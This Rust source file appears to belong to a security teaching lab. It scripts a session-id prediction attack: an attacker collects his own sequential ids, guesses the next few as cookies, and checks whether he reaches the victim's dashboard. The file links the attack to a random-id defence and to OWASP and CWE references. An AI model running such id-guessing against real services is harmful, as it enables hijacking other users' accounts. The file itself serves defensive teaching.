//! Guessing the neighbour's id from one's own. Worksheet 07.
//!
//! Stopped by `id-source` alone. Read `src/defences/id_source.rs` next.

use async_trait::async_trait;

use super::scenario::{ATTACKER, Scenario, ScenarioError, VICTIM};
use super::{Attack, Card, Engine, Outcome};
use crate::client::caller::Call;
use crate::defences::policy::Name;

pub(super) struct IdPrediction;

/// How many ids after his own the attacker tries.
const TRIED: u64 = 5;

const CARD: Card = Card {
    name: "id-prediction",
    title: "Predicting a neighbour's session id",
    engine: Engine::Http,
    victim: "Signs in some time after the attacker, on another computer.",
    means: "The attacker signs in to his own account three times and looks at the ids he gets.",
    evidence: "With a predicted id the attacker is greeted as the victim.",
    stopped_by: &[&[Name::IdSource]],
    when_stopped: "The ids are random: three of them say nothing about the next.",
    shows: &["SID-ENTROPY"],
    standards: &["ASVS 7.2.3", "CWE-330", "CWE-340", "WSTG-SESS-01"],
};

#[async_trait]
impl Attack for IdPrediction {
    fn card(&self) -> &'static Card {
        &CARD
    }

    async fn run(&self, scenario: &Scenario) -> Result<Outcome, ScenarioError> {
        scenario.narrate("The attacker signs in three times and collects his own ids.");
        let mut ids = Vec::new();
        let mut name = String::new();
        for _ in 0..3 {
            let mut attacker = scenario.actor("attacker");
            attacker.sign_in(ATTACKER).await?;
            let (found, id) = attacker.session_cookie()?;
            name = found;
            ids.push(id);
        }
        scenario.narrate("The victim signs in.");
        scenario.actor("victim").sign_in(VICTIM).await?;

        let Some(next) = predict(&ids) else {
            return Ok(Outcome::Stopped(CARD.when_stopped.into()));
        };
        scenario.narrate(format!(
            "The ids rise evenly. The attacker tries {next} and those that follow."
        ));
        let mut attacker = scenario.actor("attacker");
        for id in next..next + TRIED {
            let guess = Call::get("/dashboard").with_cookie(Some(format!("{name}={id}")));
            if attacker.greeted_as(guess).await?.as_deref() == Some(VICTIM) {
                let evidence = format!("The predicted id {id} opens {VICTIM}'s dashboard.");
                return Ok(Outcome::Succeeded(evidence));
            }
        }
        Ok(Outcome::Stopped(
            "None of the predicted ids opens a session.".into(),
        ))
    }
}

/// The id that should come next, if the ids are numbers that rise.
fn predict(ids: &[String]) -> Option<u64> {
    let numbers: Vec<u64> = ids
        .iter()
        .map(|id| id.parse().ok())
        .collect::<Option<_>>()?;
    numbers.is_sorted().then_some(numbers.last()? + 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rising_numbers_are_predicted_and_random_text_is_not() {
        let ids = |list: [&str; 3]| list.map(str::to_owned).to_vec();
        assert_eq!(predict(&ids(["1001", "1003", "1005"])), Some(1006));
        assert_eq!(predict(&ids(["x1", "x2", "x3"])), None);
    }
}
